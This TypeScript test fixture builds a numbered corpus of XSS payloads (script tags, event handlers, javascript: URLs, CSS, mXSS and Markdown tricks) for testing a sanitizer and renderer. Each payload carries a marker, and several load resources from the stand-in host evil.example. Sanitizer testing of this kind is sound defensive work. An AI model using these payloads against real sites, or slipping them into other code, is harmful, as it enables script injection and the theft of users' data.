// The XSS attack corpus (OWASP cheat-sheet style): each payload carries its own marker (a call to __xss_hit(N),
// alert(N), or a request to evil.example/xss-N) so a test names the payload that got through.

/**
 * How the unsanitized control sink (xss-control.spec) proves a payload is live, i.e. that the detectors would see it:
 * - `runs`: put raw into a document with JavaScript on, it calls __xss_hit / alert, requests evil.example or throws
 *   by itself;
 * - `scan`: it needs a click or a legacy browser (javascript: link, vbscript:, CSS expression): the DOM scan finds it;
 * - `markdown-runs` / `markdown-scan`: the same, once rendered by a naive Markdown renderer (raw HTML passed through);
 * - `inert`: not live even raw in today's Chromium or marked (template strings, code spans, a NUL in a tag name,
 *   breakouts marked already escapes): kept because a weaker renderer would run them; rendered by the naive
 *   Markdown renderer, no detector may fire.
 */
export type XssProof = 'runs' | 'scan' | 'markdown-runs' | 'markdown-scan' | 'inert';

export interface XssPayload {
  id: number;
  name: string;
  payload: string;
  proof: XssProof;
}

/** The remote host no request may ever reach (the guard aborts and reports it). */
export const EVIL_HOST = 'evil.example';

const hit = (n: number) => `__xss_hit(${n})`;
const evil = (n: number) => `https://${EVIL_HOST}/xss-${n}`;

type Entry = [name: string, proof: XssProof, build: (n: number) => string];

// Written as builders so each payload's number is its place in this list (no number can be used twice).
const ENTRIES: Entry[] = [
  // ── script elements ──
  ['script element', 'runs', (n) => `<script>${hit(n)}</script>`],
  ['script, upper case', 'runs', (n) => `<SCRIPT>${hit(n)}</SCRIPT>`],
  ['script, mixed case and attribute', 'runs', (n) => `<ScRiPt type="text/javascript">${hit(n)}</sCrIpT>`],
  ['script, null byte in the tag name', 'inert', (n) => `<scr\u0000ipt>${hit(n)}</scr\u0000ipt>`],
  ['script, malformed slash', 'runs', (n) => `<script/xss>${hit(n)}</script>`],
  ['script, unclosed', 'scan', (n) => `<script>${hit(n)}//`],
  ['script src to a remote host', 'runs', (n) => `<script src="${evil(n)}.js"></script>`],
  ['script, doubled angle brackets', 'runs', (n) => `<<script>;${hit(n)}//<</script>/script>`],
  // ── event-handler attributes ──
  ['img onerror', 'runs', (n) => `<img src=x onerror="${hit(n)}">`],
  ['img onerror, no quotes or spaces', 'runs', (n) => `<img/src="x"/onerror=${hit(n)}>`],
  ['img onerror, entity-encoded handler', 'runs', (n) => `<img src=x onerror="&#95;_xss_hit(${n})">`],
  ['img onerror alert', 'runs', (n) => `<img src=x onerror=alert(${n})>`],
  ['svg onload', 'runs', (n) => `<svg onload=${hit(n)}></svg>`],
  ['svg onload, unclosed', 'runs', (n) => `<svg/onload=${hit(n)}>`],
  ['body onload', 'runs', (n) => `<body onload=${hit(n)}>`],
  ['details ontoggle open', 'runs', (n) => `<details open ontoggle=${hit(n)}><summary>more</summary></details>`],
  ['video source onerror', 'runs', (n) => `<video><source onerror=${hit(n)}></video>`],
  ['audio onerror', 'runs', (n) => `<audio src=x onerror=${hit(n)}></audio>`],
  ['input autofocus onfocus', 'runs', (n) => `<input autofocus onfocus=${hit(n)}>`],
  ['b onmouseover', 'scan', (n) => `<b onmouseover=${hit(n)}>hover me</b>`],
  ['marquee onstart', 'scan', (n) => `<marquee onstart=${hit(n)}>news</marquee>`],
  // ── SVG ──
  ['svg animate onbegin', 'runs', (n) => `<svg><animate onbegin=${hit(n)} attributeName=x dur=1s></svg>`],
  [
    'svg set href to javascript:',
    'scan',
    (n) => `<svg><a><set attributeName=href to="javascript:${hit(n)}"/><text y=20>tap</text></a></svg>`,
  ],
  [
    'svg xlink:href javascript:',
    'scan',
    (n) => `<svg><a xlink:href="javascript:${hit(n)}"><text y=20>x</text></a></svg>`,
  ],
  ['svg foreignObject img', 'runs', (n) => `<svg><foreignObject><img src=x onerror=${hit(n)}></foreignObject></svg>`],
  ['svg script', 'runs', (n) => `<svg><script>${hit(n)}</script></svg>`],
  ['svg image remote href', 'runs', (n) => `<svg><image href="${evil(n)}.png"/></svg>`],
  // ── javascript: / vbscript: / data: URLs ──
  ['a href javascript:', 'scan', (n) => `<a href="javascript:${hit(n)}">link</a>`],
  ['a href javascript:, entity-encoded colon', 'scan', (n) => `<a href="javascript&colon;${hit(n)}">link</a>`],
  ['a href javascript:, tab inside', 'scan', (n) => `<a href="jav&#x09;ascript:${hit(n)}">link</a>`],
  ['a href javascript:, case and spaces', 'scan', (n) => `<a href=" JaVaScRiPt:${hit(n)}">link</a>`],
  ['a href vbscript:', 'scan', (n) => `<a href="vbscript:msgbox(${n})">link</a>`],
  ['a href data:text/html', 'scan', (n) => `<a href="data:text/html,<script>parent.${hit(n)}</script>">link</a>`],
  ['iframe src javascript:', 'runs', (n) => `<iframe src="javascript:parent.${hit(n)}"></iframe>`],
  ['iframe srcdoc', 'runs', (n) => `<iframe srcdoc="<script>parent.${hit(n)}</script>"></iframe>`],
  ['object data javascript:', 'scan', (n) => `<object data="javascript:${hit(n)}"></object>`],
  ['embed src data:text/html', 'scan', (n) => `<embed src="data:text/html,<script>${hit(n)}</script>">`],
  ['meta refresh to a remote host', 'runs', (n) => `<meta http-equiv="refresh" content="0;url=${evil(n)}">`],
  ['base href to a remote host', 'runs', (n) => `<base href="${evil(n)}/"><img src="pixel.png">`],
  [
    'form with formaction javascript:',
    'scan',
    (n) => `<form action="${evil(n)}"><button formaction="javascript:${hit(n)}">Send</button></form>`,
  ],
  // ── CSS ──
  ['style attribute url() to a remote host', 'runs', (n) => `<div style="background:url(${evil(n)}.png)">box</div>`],
  ['style attribute expression()', 'scan', (n) => `<div style="width:expression(${hit(n)})">box</div>`],
  ['style element @import', 'runs', (n) => `<style>@import "${evil(n)}.css";</style>`],
  ['style element background-image', 'runs', (n) => `<style>body{background-image:url(${evil(n)}.png)}</style>`],
  ['link rel=stylesheet', 'runs', (n) => `<link rel="stylesheet" href="${evil(n)}.css">`],
  // ── remote resources ──
  ['img src to a remote host', 'runs', (n) => `<img src="${evil(n)}.png">`],
  ['img srcset to a remote host', 'runs', (n) => `<img srcset="${evil(n)}.png 2x">`],
  // ── Markdown tricks ──
  ['Markdown link javascript:', 'markdown-scan', (n) => `[click me](javascript:${hit(n)})`],
  ['Markdown link javascript:, entity colon', 'markdown-scan', (n) => `[click me](javascript&#58;${hit(n)})`],
  [
    'Markdown reference link javascript:',
    'markdown-scan',
    (n) => `[ref link][evil${n}]\n\n[evil${n}]: javascript:${hit(n)}`,
  ],
  ['Markdown autolink javascript:', 'markdown-scan', (n) => `<javascript:${hit(n)}>`],
  ['Markdown image onerror breakout', 'inert', (n) => `![pic](x"onerror="${hit(n)})`],
  ['Markdown image remote', 'markdown-runs', (n) => `![pic](${evil(n)}.png)`],
  ['Markdown link title breakout', 'inert', (n) => `[t](https://example.org "a\\"onmouseover=${hit(n)} x=\\"")`],
  ['Markdown raw HTML block', 'markdown-runs', (n) => `<div>\n<img src=x onerror=${hit(n)}>\n</div>`],
  ['Markdown escaped backslash before HTML', 'markdown-runs', (n) => `\\\\<img src=x onerror=${hit(n)}>`],
  ['HTML inside a code span stays text', 'inert', (n) => `\`<img src=x onerror=${hit(n)}>\``],
  ['HTML inside a fenced block stays text', 'inert', (n) => `\`\`\`\n<script>${hit(n)}</script>\n\`\`\``],
  // ── template strings ──
  ['Angular-style {{ }}', 'inert', (n) => `{{constructor.constructor('${hit(n)}')()}}`],
  ['template literal ${ }', 'inert', (n) => `\${${hit(n)}}`],
  ['Svelte {@html}', 'inert', (n) => `{@html ${hit(n)}}`],
  // ── mXSS ──
  ['mXSS noscript title', 'runs', (n) => `<noscript><p title="</noscript><img src=x onerror=${hit(n)}>">`],
  ['mXSS style in svg', 'runs', (n) => `<svg><style><img src=x onerror=${hit(n)}></style></svg>`],
  ['mXSS math mglyph style', 'scan', (n) => `<math><mtext><table><mglyph><style><img src=x onerror=${hit(n)}>`],
  ['mXSS textarea breakout', 'runs', (n) => `<textarea></textarea><img src=x onerror=${hit(n)}>`],
  ['mXSS svg p style breakout', 'runs', (n) => `<svg></p><style><a id="</style><img src=1 onerror=${hit(n)}>">`],
];

export const XSS_CORPUS: readonly XssPayload[] = ENTRIES.map(([name, proof, build], index) => ({
  id: index + 1,
  name,
  payload: build(index + 1),
  proof,
}));

/** The payloads that fit a plain-text field of at most `max` characters. */
export function payloadsUpTo(max: number): XssPayload[] {
  return XSS_CORPUS.filter((entry) => entry.payload.length <= max);
}

/** Splits the corpus into groups of `size` (e.g. one article body per group). */
export function corpusInGroups(size: number): XssPayload[][] {
  const groups: XssPayload[][] = [];
  for (let start = 0; start < XSS_CORPUS.length; start += size) groups.push(XSS_CORPUS.slice(start, start + size));
  return groups;
}
